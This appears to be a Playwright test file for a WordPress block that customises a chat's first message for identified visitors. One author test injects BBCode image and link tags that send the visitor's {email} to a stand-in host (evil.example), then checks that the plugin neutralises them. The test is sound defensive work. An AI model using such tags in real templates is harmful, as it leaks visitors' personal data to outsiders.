/**
 * The block `known-visitor/override` in the editors of the newest WordPress.
 */
import { writeOverride } from '../../src/editor/override/write';
import { inPhp, pageData } from '../integration/helpers';
import { violationsIn } from '../support/axe';
import {
	canvas,
	expect,
	insertBlock,
	messageOf,
	openEditor,
	ourBlock,
	panel,
	PATIENCE,
	preview,
	saveInEditor,
	settingBlock,
	startWriting,
	template,
	test,
} from './support/editor';

test.use( { actionTimeout: PATIENCE.action } );
test.setTimeout( PATIENCE.test );

test.beforeEach( async ( { site } ) => {
	await site.reset();
	await inPhp(
		site,
		`$settings( array( 'first_message' => 'Site: {user_login}', 'meta_keys' => array( 'vip' ) ) );
		update_user_meta( 1, 'vip', 'gold' );
		return true;`
	);
} );

settingBlock( '7.1' );

test( 'all of it works with the keyboard', async ( { page, site } ) => {
	const { id, url } = await site.createPost( { title: 'Keys', content: '' } );
	await openEditor( page, site, id );
	await insertBlock( page );

	// From the block into the side panel, as WordPress's own shortcut goes.
	await panel( page ).getByLabel( 'As the site’s settings say' ).focus();
	await page.keyboard.press( 'ArrowDown' );
	await expect( ourBlock( page ) ).toContainText(
		'Visitors are identified in the chat here, even where'
	);
	await panel( page ).getByLabel( 'Use a different first message' ).focus();
	await page.keyboard.press( 'Space' );
	await expect( template( page ) ).toHaveValue( '{default}' );
	await template( page ).focus();
	await page.keyboard.press( 'Control+End' );
	await page.keyboard.type( ' and ' );
	await panel( page )
		.getByRole( 'button', { name: 'Insert a token' } )
		.press( 'Enter' );
	const tokens = page
		.getByRole( 'menu', { name: 'Insert a token' } )
		.getByRole( 'menuitem' );
	await expect( tokens.first() ).toBeFocused();
	await page.keyboard.press( 'ArrowUp' );
	await expect( tokens.last() ).toBeFocused();
	await expect( tokens.last() ).toContainText( 'gold' );
	await page.screenshot( { path: 'artifacts/screens/block-tokens.png' } );
	await page.keyboard.press( 'Enter' );

	// Typing goes on where it was.
	await expect( template( page ) ).toBeFocused();
	await page.keyboard.type( '!' );
	await expect( template( page ) ).toHaveValue( '{default} and {meta:vip}!' );
	await expect( preview( page ) ).toHaveText( /Site: admin and gold!/ );

	await saveInEditor( page );
	expect( await messageOf( site, url ) ).toBe(
		'Site: {user_login} and {meta:vip}!'
	);
} );

test.describe( 'on a phone', () => {
	test.use( { viewport: { width: 320, height: 640 }, hasTouch: true } );

	test( 'a token is picked, and all of each is to be seen', async ( {
		page,
		site,
	} ) => {
		const { id } = await site.createPost( {
			title: 'Phone',
			content: `<!-- wp:known-visitor/override -->\n${ writeOverride( {
				enabled: null,
				template: 'Hello ',
			} ) }\n<!-- /wp:known-visitor/override -->`,
		} );
		await openEditor( page, site, id );
		await ourBlock( page ).tap();
		await page
			.getByRole( 'button', { name: 'Settings', exact: true } )
			.tap();
		await panel( page )
			.getByRole( 'button', { name: 'Insert a token' } )
			.tap();
		const tokens = page
			.getByRole( 'menu', { name: 'Insert a token' } )
			.getByRole( 'menuitem' );
		for ( const name of [ 'default', 'user_login', 'display_name' ] ) {
			await expect( tokens.getByText( `{${ name }}` ) ).toBeInViewport( {
				ratio: 1,
			} );
		}
		await tokens.filter( { hasText: '{user_login}' } ).tap();
		await expect( template( page ) ).toHaveValue( /{user_login}/ );
		await expect( preview( page ) ).toContainText( 'admin' );
	} );
} );

test( 'undo takes one choice back, and not the one before it', async ( {
	page,
	site,
} ) => {
	const { id } = await site.createPost( { title: 'Undo', content: '' } );
	await openEditor( page, site, id );
	await insertBlock( page );
	const undo = page.getByRole( 'button', {
		name: 'Undo',
		exact: true,
	} );
	const yes = panel( page ).getByLabel( 'Yes, even on pages' );
	const own = panel( page ).getByLabel( 'Use a different first message' );

	await yes.check();
	await own.check();
	await template( page ).pressSequentially( 'Hello ' );
	await own.uncheck();

	await undo.click();
	await expect( template( page ) ).toHaveValue( 'Hello {default}' );
	// What is typed in one go is one step.
	await undo.click();
	await expect( template( page ) ).toHaveValue( '{default}' );
	await undo.click();
	await expect( own ).not.toBeChecked();
	await expect( yes ).toBeChecked();
	await undo.click();
	await expect( yes ).not.toBeChecked();
	await expect( ourBlock( page ) ).toBeVisible();
} );

for ( const whose of [ 'a post of their own', 'an administrator’s post' ] ) {
	test( `in ${ whose } an author is told what becomes of the template, and it becomes that`, async ( {
		page,
		site,
	} ) => {
		const { id: writer } = await site.createUser( {
			login: 'writer',
			role: 'author',
		} );
		await inPhp(
			site,
			`foreach ( array( 'edit_others_posts', 'edit_published_posts' ) as $capability ) {
			get_userdata( $args['writer'] )->add_cap( $capability );
		}
		return true;`,
			{ writer }
		);
		const { id, url } = await site.createPost( {
			title: 'By an author',
			content: '',
			type: 'post',
			author: whose === 'a post of their own' ? writer : 1,
		} );
		await openEditor( page, site, id, 'writer' );
		await insertBlock( page );
		await panel( page )
			.getByLabel( 'Use a different first message' )
			.check();
		await template( page ).fill(
			'[b]Hi[/b] {user_login} [img]https://evil.example/{email}.png[/img] [url=https://evil.example/?e={email}]x[/url] [url=https://example.com/]shop[/url]'
		);

		await expect( panel( page ) ).toContainText(
			'Operators will see [img], [/img] as text.'
		);
		await expect( panel( page ) ).toContainText(
			'Operators will see [url=https://evil.example/?e={email}] as text.'
		);
		await expect( preview( page ) ).toContainText( 'Hi writer ［img］' );
		await expect( preview( page ).getByRole( 'link' ) ).toHaveCount( 1 );
		expect( await violationsIn( panel( page ) ) ).toEqual( [] );
		await page.screenshot( {
			path: 'artifacts/screens/block-author.png',
		} );

		await saveInEditor( page );
		const message = await messageOf( site, url );
		expect( message ).toContain( '[b]Hi[/b] {user_login} ［img］' );
		expect( message ).not.toContain( '[url=https://evil' );
		expect( message ).toContain( '[url=https://example.com/]shop[/url]' );
	} );
}

test( 'the shortcode becomes the block, and the block the shortcode', async ( {
	page,
	site,
} ) => {
	const shortcode =
		'[known_visitor]Order & {page_link}\n[b]now[/b][/known_visitor]';
	const { id, url } = await site.createPost( {
		title: 'Transformed',
		content: `<!-- wp:shortcode -->\n${ shortcode }\n<!-- /wp:shortcode -->`,
	} );
	await openEditor( page, site, id );
	await canvas( page ).locator( '[data-type="core/shortcode"]' ).click();
	await page
		.getByRole( 'toolbar', { name: 'Block tools' } )
		.getByRole( 'button', { name: 'Shortcode' } )
		.click();
	const transforms = page.getByRole( 'group', { name: 'Transform to' } );
	await transforms.getByRole( 'menuitem', { name: 'Known Visitor' } ).click();
	await expect( ourBlock( page ) ).toContainText( 'different first message' );
	await expect( template( page ) ).toHaveValue(
		'Order & {page_link}\n[b]now[/b]'
	);
	await saveInEditor( page );
	expect( await messageOf( site, url ) ).toBe(
		'Order & {page_link}\n[b]now[/b]'
	);

	await page
		.getByRole( 'toolbar', { name: 'Block tools' } )
		.getByRole( 'button', { name: 'Known Visitor' } )
		.click();
	await transforms.getByRole( 'menuitem', { name: 'Shortcode' } ).click();
	await expect( ourBlock( page ) ).toBeHidden();
	await saveInEditor( page );
	expect( await messageOf( site, url ) ).toBe(
		'Order & {page_link}\n[b]now[/b]'
	);
} );

test( 'a pasted shortcode becomes the block', async ( {
	page,
	site,
	context,
} ) => {
	await context.grantPermissions( [ 'clipboard-read', 'clipboard-write' ] );
	const { id } = await site.createPost( { title: 'Pasted', content: '' } );
	await openEditor( page, site, id );
	await startWriting( page );
	await page.evaluate( () =>
		navigator.clipboard.writeText(
			'[known_visitor enabled="yes"]Order now {page_link} [b]1 < 2[/b][/known_visitor]'
		)
	);
	await page.keyboard.press( 'Control+v' );

	await ourBlock( page ).click();
	await expect( template( page ) ).toHaveValue(
		'Order now {page_link} [b]1 < 2[/b]'
	);
} );

test( 'a page has the block once', async ( { page, site } ) => {
	const { id } = await site.createPost( {
		title: 'Once',
		content: `<!-- wp:known-visitor/override -->\n${ writeOverride( {
			enabled: false,
			template: null,
		} ) }\n<!-- /wp:known-visitor/override -->`,
	} );
	await openEditor( page, site, id );
	await expect( ourBlock( page ) ).toContainText(
		'Visitors are not identified in the chat here.'
	);
	await page.getByRole( 'button', { name: 'Block Inserter' } ).click();
	await page.getByRole( 'searchbox' ).fill( 'known visitor' );
	await expect(
		page.getByRole( 'option', { name: 'Known Visitor' } )
	).toHaveAttribute( 'aria-disabled', 'true' );
} );

test( 'a template of the site editor says a word for all pages that it shows', async ( {
	page,
	site,
} ) => {
	const { url } = await site.createPost( { title: 'Any', content: 'Any.' } );
	expect(
		pageData( await ( await site.get( url, { as: 'admin' } ) ).text() )
	).toBeDefined();

	await openEditor(
		page,
		site,
		'/wp-admin/site-editor.php?postType=wp_template&postId=twentytwentyfive//page&canvas=edit'
	);
	await page.getByRole( 'button', { name: 'Block Inserter' } ).click();
	await page.getByRole( 'searchbox' ).fill( 'known visitor' );
	await page.getByRole( 'option', { name: 'Known Visitor' } ).click();
	await expect( ourBlock( page ) ).toContainText(
		'The chat follows the site’s settings here.'
	);
	// It is not one page.
	await expect( panel( page ) ).toContainText( 'Decides whether' );
	await expect( panel( page ) ).not.toContainText( 'this page' );
	await panel( page ).getByLabel( 'No, everybody is a guest' ).check();
	await expect( ourBlock( page ) ).toContainText(
		'Visitors are not identified in the chat here.'
	);
	expect( await violationsIn( panel( page ) ) ).toEqual( [] );
	await page.screenshot( {
		path: 'artifacts/screens/block-site-editor.png',
	} );
	await saveInEditor( page );

	expect(
		pageData( await ( await site.get( url, { as: 'admin' } ) ).text() )
	).toBeUndefined();
} );
